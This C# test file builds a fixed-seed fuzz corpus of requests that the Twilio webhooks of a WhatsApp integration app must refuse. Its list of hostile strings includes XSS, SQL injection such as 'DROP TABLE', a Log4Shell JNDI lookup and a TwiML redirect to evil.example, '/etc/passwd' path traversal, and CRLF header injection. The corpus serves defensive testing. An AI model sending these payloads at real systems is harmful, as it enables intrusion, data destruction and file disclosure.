using System.Security.Cryptography;
using System.Text;
using OmniWhatsApp.Core.Twilio;
using OmniWhatsApp.Web.Emulator;

namespace OmniWhatsApp.Tests.Infrastructure;

/// <summary>One hostile request to the app and the status it must be refused with.</summary>
public sealed record FuzzRequest(int Index, string Kind, HttpMethod Method, string Url, byte[]? Body, string? ContentType,
    IReadOnlyList<KeyValuePair<string, string>> Headers, int Expected, bool Chunked = false)
{
    public override string ToString() => $"#{Index} {Kind}: {Method} {Url} ({Body?.Length ?? 0} bytes) expecting {Expected}";

    public HttpRequestMessage ToHttpRequest()
    {
        var request = new HttpRequestMessage(Method, Url);
        if (Body is not null)
        {
            request.Content = Chunked ? new StreamContent(new MemoryStream(Body)) : new ByteArrayContent(Body);
            if (ContentType is not null) request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
        }
        foreach (var (name, value) in Headers) request.Headers.TryAddWithoutValidation(name, value);
        return request;
    }
}

/// <summary>
/// A deterministic corpus (fixed seed) of requests that Twilio's webhooks must refuse: unsigned, mis-signed, for the
/// wrong or no account, to a number the account does not have, malformed, oversized, with repeated parameters, in the
/// wrong content type, with bytes that are not UTF-8, with the wrong method or path; hostile strings (markup, SQL,
/// control characters) throughout. None of them may store anything.
/// </summary>
public sealed class WebhookFuzzCorpus
{
    public const int Seed = 20261206;

    private static readonly string[] Hostile =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE \"Messages\";--", "\" OR 1=1 --", "1; DELETE FROM Customers",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "line\r\nX-Injected: 1", "\u202Egnp.exe", "%00%0d%0a",
        "😀👍🏽🇹🇷", "İıŞşĞğ Ёё", "javascript:alert(document.cookie)", "whatsapp:+", "SM" + new string('0', 32) + "'", "\uFEFF\u200B", "NaN", "-0",
        "1e308", "true", "null", "[]", "{\"a\":1}", "<Response><Redirect>https://evil.example</Redirect></Response>",
    ];

    /// <summary>Hostile strings that are not numbers (a coordinate or error code of "-0" would be a valid one).</summary>
    private static readonly string[] NotNumbers = Hostile.Where(h =>
        !double.TryParse(h, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _) && !int.TryParse(h, out _)).ToArray();

    private static readonly string[] BoundedFields = ["Body", "ProfileName", "Label", "Address", "ButtonText", "ButtonPayload", "ListTitle", "ListId", "WaId", "MessageType"];
    private static readonly Dictionary<string, int> Limits = new(OmniWhatsApp.Core.Inbound.InboundForm.MaxLengths);

    private readonly Random random = new(Seed);
    private readonly WebhookChannel target;
    private readonly WebhookChannel other;
    private int index;

    private WebhookFuzzCorpus(WebhookChannel target, WebhookChannel other) => (this.target, this.other) = (target, other);

    /// <summary>At least <paramref name="size"/> requests against <paramref name="target"/>'s URLs; <paramref name="other"/> is another account of the app.</summary>
    public static List<FuzzRequest> Generate(WebhookChannel target, WebhookChannel other, int size)
    {
        var corpus = new WebhookFuzzCorpus(target, other);
        var kinds = corpus.Kinds();
        var requests = new List<FuzzRequest>(size);
        while (requests.Count < size)
        {
            foreach (var (kind, make) in kinds) requests.Add(make(kind));
        }
        return requests;
    }

    private List<(string, Func<string, FuzzRequest>)> Kinds() =>
    [
        ("inbound unsigned", k => Post(k, target.Urls.Inbound, Inbound(), signature: null, 403)),
        ("inbound garbage signature", k => Post(k, target.Urls.Inbound, Inbound(), GarbageSignature(), 403)),
        ("inbound signed for another account's URL", k =>
        {
            var fields = Inbound();
            return Post(k, target.Urls.Inbound, fields, EmulatorSignature.Compute(other.Urls.Inbound, fields, other.AuthToken), 403);
        }),
        ("inbound signed with a random token", k => SignedPost(k, target.Urls.Inbound, Inbound(), RandomHex(32), 403)),
        ("inbound changed after signing", k =>
        {
            var fields = Inbound();
            var signature = EmulatorSignature.Compute(target.Urls.Inbound, fields, target.AuthToken);
            fields[Pick(["Body", "From", "ProfileName", "MessageSid"])] = Pick(Hostile) + " (changed)";
            return Post(k, target.Urls.Inbound, fields, signature, 403);
        }),
        ("inbound signed over another URL", k =>
        {
            var fields = Inbound();
            var signedUrl = Pick([target.Urls.Status, target.Urls.Inbound + "?x=1", target.Urls.Inbound.Replace("http://", "https://"), target.Urls.Inbound + "/"]);
            return Post(k, target.Urls.Inbound, fields, EmulatorSignature.Compute(signedUrl, fields, target.AuthToken), 403);
        }),
        ("inbound with a NUL character, signed", k =>
        {
            // ASP.NET's form reader refuses a NUL before the signature is looked at: 400, whoever signed it.
            var fields = Inbound();
            fields[Pick(["Body", "ProfileName", "From", "Label"])] = "a\0b" + Pick(Hostile);
            return SignedPost(k, target.Urls.Inbound, fields, target.AuthToken, 400);
        }),
        ("status with a NUL character, signed", k =>
        {
            var fields = Status();
            fields[Pick(["MessageStatus", "MessageSid", "ErrorCode"])] = "\0";
            return SignedPost(k, target.Urls.Status, fields, target.AuthToken, 400);
        }),
        ("inbound not UTF-8, badly signed", k =>
        {
            var fields = Inbound();
            fields.Remove("Body");
            var body = Encode(fields).Concat("&Body=caf"u8.ToArray()).Concat(new byte[] { 0xFF, 0xFE, 0xE9, 0x80 }).ToArray();
            return Raw(k, target.Urls.Inbound, body, Form, [Signature(EmulatorSignature.Compute(target.Urls.Inbound, fields, target.AuthToken))], 403);
        }),
        ("inbound for an unknown account", k =>
        {
            var url = target.Urls.Inbound.Replace(target.AccountId.ToString(), Guid.NewGuid().ToString());
            return SignedPost(k, url, Inbound(), target.AuthToken, 404);
        }),
        ("inbound for an account id that is not a GUID", k =>
        {
            var url = target.Urls.Inbound.Replace(target.AccountId.ToString(), Uri.EscapeDataString(Pick([.. Hostile, "1", "AC" + RandomHex(32), "00000000"])));
            return Post(k, url, Inbound(), GarbageSignature(), 404);
        }),
        ("inbound to a number the account does not have", k =>
        {
            var fields = Inbound();
            fields["To"] = "whatsapp:+1555" + random.Next(1_000_000, 9_999_999);
            return SignedPost(k, target.Urls.Inbound, fields, target.AuthToken, 404);
        }),
        ("inbound malformed, signed", k => SignedPost(k, target.Urls.Inbound, MalformedInbound(), target.AuthToken, 400)),
        ("inbound field over its limit, signed", k =>
        {
            var fields = Inbound();
            var field = Pick(BoundedFields);
            fields[field] = Text(Limits[field] + 1 + random.Next(0, 20_000));
            return SignedPost(k, target.Urls.Inbound, fields, target.AuthToken, 400);
        }),
        ("inbound repeated parameter", k =>
        {
            var fields = Inbound();
            var pairs = fields.ToList();
            var repeated = Pick(fields.Keys.ToArray());
            pairs.Add(new(repeated, Pick(Hostile)));
            var signature = random.Next(2) == 0 ? EmulatorSignature.Compute(target.Urls.Inbound, pairs, target.AuthToken) : GarbageSignature();
            return Raw(k, target.Urls.Inbound, Encode(pairs), Form, [Signature(signature)], 400);
        }),
        ("inbound wrong content type", k => WrongContentType(k, target.Urls.Inbound, Inbound())),
        ("inbound oversized", k => Oversized(k, target.Urls.Inbound, Inbound())),
        ("status unsigned", k => Post(k, target.Urls.Status, Status(), signature: null, 403)),
        ("status garbage signature", k => Post(k, target.Urls.Status, Status(), GarbageSignature(), 403)),
        ("status signed for another account's URL", k =>
        {
            var fields = Status();
            return Post(k, target.Urls.Status, fields, EmulatorSignature.Compute(other.Urls.Status, fields, other.AuthToken), 403);
        }),
        ("status for an unknown account", k =>
        {
            var url = target.Urls.Status.Replace(target.AccountId.ToString(), Guid.NewGuid().ToString());
            return SignedPost(k, url, Status(), target.AuthToken, 404);
        }),
        ("status malformed, signed", k => SignedPost(k, target.Urls.Status, MalformedStatus(), target.AuthToken, 400)),
        ("status repeated parameter", k =>
        {
            var pairs = Status().ToList();
            pairs.Add(new("MessageStatus", Pick(["read", "failed", .. Hostile])));
            return Raw(k, target.Urls.Status, Encode(pairs), Form, [Signature(EmulatorSignature.Compute(target.Urls.Status, pairs, target.AuthToken))], 400);
        }),
        ("status wrong content type", k => WrongContentType(k, target.Urls.Status, Status())),
        ("status oversized", k => Oversized(k, target.Urls.Status, Status())),
        ("webhook with another method", k =>
        {
            var method = Pick([HttpMethod.Get, HttpMethod.Put, HttpMethod.Delete, HttpMethod.Patch]);
            var url = Pick([target.Urls.Inbound, target.Urls.Status]);
            var fields = Inbound();
            var body = method == HttpMethod.Get ? null : Encode(fields);
            return Raw(k, url, body, Form, [Signature(EmulatorSignature.Compute(url, fields, target.AuthToken))], 405, method);
        }),
        ("unknown path under /api/", k =>
        {
            var path = Pick(["api/" + Uri.EscapeDataString(Pick(Hostile)), "api/twilio", $"api/twilio/{target.AccountId}", $"api/twilio/{target.AccountId}/" + Uri.EscapeDataString(Pick(Hostile)),
                $"api/twilio/{target.AccountId}/inbound/extra", "api/twilio/status"]);
            var url = new Uri(new Uri(target.Urls.Inbound), "/" + path).ToString();
            return Raw(k, url, Encode(Inbound()), Form, [], 404, Pick([HttpMethod.Post, HttpMethod.Get]));
        }),
    ];

    private const string Form = "application/x-www-form-urlencoded";

    private Dictionary<string, string> Inbound()
    {
        var customer = "+4477" + random.Next(10_000_000, 99_999_999);
        var fields = target.Inbound(customer, random.Next(3) == 0 ? Pick(Hostile) : Text(random.Next(0, 300)), sid: TwilioSids.New(Pick(["SM", "MM"])),
            profileName: random.Next(2) == 0 ? Pick(Hostile) : "Fuzz Customer");
        if (random.Next(4) == 0)
        {
            fields["Latitude"] = (random.NextDouble() * 180 - 90).ToString("0.######", System.Globalization.CultureInfo.InvariantCulture);
            fields["Longitude"] = (random.NextDouble() * 360 - 180).ToString("0.######", System.Globalization.CultureInfo.InvariantCulture);
            fields["Label"] = Pick(Hostile);
        }
        return fields;
    }

    private Dictionary<string, string> Status()
    {
        var fields = new Dictionary<string, string>
        {
            ["MessageSid"] = TwilioSids.New("SM"),
            ["MessageStatus"] = Pick(["queued", "sent", "delivered", "read", "failed", "undelivered"]),
            ["AccountSid"] = target.AccountSid,
            ["From"] = "whatsapp:" + target.Number,
            ["To"] = "whatsapp:+4477" + random.Next(10_000_000, 99_999_999),
            ["ApiVersion"] = "2010-04-01",
        };
        if (fields["MessageStatus"] is "failed" or "undelivered") fields["ErrorCode"] = Pick(["63016", "30008", "30003"]);
        return fields;
    }

    /// <summary>An inbound form with one thing wrong that the app must refuse with 400.</summary>
    private Dictionary<string, string> MalformedInbound()
    {
        var fields = Inbound();
        switch (random.Next(12))
        {
            case 0: fields.Remove(Pick(["MessageSid", "AccountSid", "From", "To"])); break;
            case 1: fields["MessageSid"] = Pick(["SM123", "", "MM" + RandomHex(31), "XX" + RandomHex(32), .. Hostile]); break;
            case 2: fields["AccountSid"] = Pick([AnotherAccountSid(), "AC" + RandomHex(31), "", .. Hostile]); break;
            case 3: fields[Pick(["From", "To"])] = Pick(["whatsapp:", "whatsapp:+", "whatsapp:0044770090", "whatsapp:+12ab", .. Hostile]); break;
            case 4: fields["NumMedia"] = Pick(["-1", "abc", "11", "1e3", "1000", " 1", "0x1", .. Hostile]); break;
            case 5: fields["NumMedia"] = "1"; break;
            case 6:
                fields["NumMedia"] = "0";
                fields["MediaUrl0"] = "https://api.twilio.com/2010-04-01/Accounts/AC/Messages/MM/Media/ME";
                fields["MediaContentType0"] = "image/jpeg";
                break;
            case 7:
                fields["NumMedia"] = "1";
                fields["MediaUrl0"] = Pick(["javascript:alert(1)", "ftp://evil.example/x", "not a url", "/relative", "https://" + new string('a', 1100), .. Hostile]);
                fields["MediaContentType0"] = "image/png";
                break;
            case 8:
                fields["NumMedia"] = "1";
                fields["MediaUrl0"] = "https://api.twilio.com/2010-04-01/Accounts/AC/Messages/MM/Media/ME";
                fields["MediaContentType0"] = Pick(["png", "", new string('x', 101) + "/y", .. Hostile.Where(h => !h.Contains('/'))]);
                break;
            case 9:
                fields["Latitude"] = Pick(["91", "-90.0001", "NaN", "1e1", "41,02", "", "Infinity", .. NotNumbers]);
                fields["Longitude"] = "28.97";
                break;
            case 10:
                fields["Latitude"] = "41.02";
                fields["Longitude"] = Pick(["180.5", "-181", "", "∞", .. NotNumbers]);
                break;
            default:
                fields.Remove("Latitude");
                fields.Remove("Longitude");
                fields[Pick(["Latitude", "Longitude"])] = "41.02";
                break;
        }
        return fields;
    }

    /// <summary>A status callback with one thing wrong that the app must refuse with 400.</summary>
    private Dictionary<string, string> MalformedStatus()
    {
        var fields = Status();
        switch (random.Next(6))
        {
            case 0: fields.Remove(Pick(["MessageSid", "MessageStatus", "AccountSid"])); break;
            case 1: fields["MessageSid"] = Pick(["SM123", "", "AC" + RandomHex(32), .. Hostile]); break;
            case 2: fields["MessageStatus"] = Pick(["exploded", "DELIVERED ", "partially-delivered", "deliver", new string('r', 5000), .. Hostile]); break;
            case 3: fields["AccountSid"] = Pick([AnotherAccountSid(), "AC" + RandomHex(31), "", .. Hostile]); break;
            case 4: fields["ErrorCode"] = Pick(["abc", "99999999999", "1.5", "6301 6", .. NotNumbers]); break;
            default: fields["MessageStatus"] = Pick(Hostile); break;
        }
        return fields;
    }

    private FuzzRequest WrongContentType(string kind, string url, Dictionary<string, string> fields)
    {
        var signature = Signature(EmulatorSignature.Compute(url, fields, target.AuthToken));
        switch (random.Next(5))
        {
            case 0:
                return Raw(kind, url, Encoding.UTF8.GetBytes(System.Text.Json.JsonSerializer.Serialize(fields)), "application/json", [signature], 400);
            case 1:
                return Raw(kind, url, Encode(fields), Pick(["text/plain", "application/xml", "text/html; charset=utf-8", "application/octet-stream"]), [signature], 400);
            case 2:
                return Raw(kind, url, Encode(fields), contentType: null, [signature], 400);
            default:
                // Multipart is a form to ASP.NET, but not what Twilio sends: refused even when correctly signed.
                using (var multipart = new MultipartFormDataContent("fuzz-boundary-" + random.Next()))
                {
                    foreach (var (name, value) in fields) multipart.Add(new StringContent(value), name);
                    var body = multipart.ReadAsByteArrayAsync().GetAwaiter().GetResult();
                    return Raw(kind, url, body, multipart.Headers.ContentType!.ToString(), [signature], 400);
                }
        }
    }

    private FuzzRequest Oversized(string kind, string url, Dictionary<string, string> fields)
    {
        fields[Pick(["Body", "Junk", "MessageSid"])] = Text(70_000 + random.Next(0, 60_000));
        var signature = Signature(EmulatorSignature.Compute(url, fields, target.AuthToken));
        return Raw(kind, url, Encode(fields), Form, [signature], 400, chunked: random.Next(2) == 0);
    }

    private FuzzRequest SignedPost(string kind, string url, Dictionary<string, string> fields, string token, int expected) =>
        Post(kind, url, fields, EmulatorSignature.Compute(url, fields, token), expected);

    private FuzzRequest Post(string kind, string url, Dictionary<string, string> fields, string? signature, int expected) =>
        Raw(kind, url, Encode(fields), Form, signature is null ? [] : [Signature(signature)], expected);

    private FuzzRequest Raw(string kind, string url, byte[]? body, string? contentType, KeyValuePair<string, string>[] headers, int expected,
        HttpMethod? method = null, bool chunked = false) =>
        new(index++, kind, method ?? HttpMethod.Post, url, body, contentType, headers, expected, chunked);

    private static KeyValuePair<string, string> Signature(string value) => new(EmulatorSignature.Header, value);

    /// <summary>Signature header values that are not the right one: random Base64 of the right length, empty, huge, hostile ASCII.</summary>
    private string GarbageSignature() => random.Next(5) switch
    {
        0 => Convert.ToBase64String(RandomBytes(20)),
        1 => "",
        2 => new string('A', random.Next(100, 8000)),
        3 => Pick(Hostile.Where(h => h.All(c => c is >= ' ' and < (char)127)).ToArray()),
        _ => Convert.ToBase64String(RandomBytes(32)),
    };

    private static byte[] Encode(IEnumerable<KeyValuePair<string, string>> fields) =>
        Encoding.ASCII.GetBytes(string.Join("&", fields.Select(f => Uri.EscapeDataString(f.Key) + "=" + Uri.EscapeDataString(f.Value))));

    /// <summary>Exactly <paramref name="length"/> characters of mixed scripts, markup and form syntax, with whole emoji.</summary>
    private string Text(int length)
    {
        const string alphabet = "abcdefghijklmnopqrstuvwxyz ABCÇĞİÖŞÜ çğıöşü АБВГДЕЁЖ абвгдеёж 0123456789 .,;:!?<>&\"'%+=/\\\n\t";
        var text = new StringBuilder(length);
        while (text.Length < length)
        {
            if (random.Next(40) == 0 && text.Length + 2 <= length) text.Append("😀");
            else text.Append(alphabet[random.Next(alphabet.Length)]);
        }
        return text.ToString();
    }

    /// <summary>A well-formed Account SID that is not the target's (the test accounts all use the emulator's).</summary>
    private string AnotherAccountSid()
    {
        var sid = "AC" + RandomHex(32);
        return sid == target.AccountSid ? "AC" + new string('0', 32) : sid;
    }

    private string RandomHex(int length) => Convert.ToHexString(RandomBytes((length + 1) / 2)).ToLowerInvariant()[..length];

    private byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        random.NextBytes(bytes);
        return bytes;
    }

    private T Pick<T>(T[] items) => items[random.Next(items.Length)];
}
